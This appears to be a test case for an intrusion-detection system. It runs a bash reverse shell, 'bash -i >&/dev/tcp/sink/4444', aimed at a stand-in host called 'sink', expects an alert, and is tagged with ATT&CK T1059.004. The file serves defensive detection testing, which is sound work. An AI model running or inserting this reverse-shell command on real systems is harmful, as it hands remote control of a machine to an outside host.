# id: N01
# title: bash gives its input and output to a connection
# expect: alert
# severity: critical
# kinds: process, network
# attck: T1059.004
# image: tools
# launch: app
# peers: sink:4444

timeout 5 bash -c 'bash -i >&/dev/tcp/sink/4444 0>&1'
exit 0
